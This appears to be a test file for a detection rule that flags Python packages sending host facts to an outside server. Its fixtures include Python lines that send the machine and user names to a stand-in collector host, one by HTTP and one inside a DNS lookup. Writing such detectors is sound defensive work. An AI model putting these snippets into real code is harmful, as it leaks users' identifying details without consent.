import { testRule } from '../../../../../test/builders/python-package.ts';
import { hostExfiltration } from './rule.ts';

testRule(hostExfiltration, {
  seen: {
    'host name and user':
      "import socket, getpass, requests\nrequests.get('https://collector.example.invalid/' + socket.gethostname() + getpass.getuser())",
    'facts in a name that is looked up':
      "import socket\nsocket.gethostbyname(socket.gethostname() + '.collector.example.invalid')",
  },
  unseen: {
    'a constant': "import requests\nrequests.get('https://collector.example.invalid/ping')",
  },
});
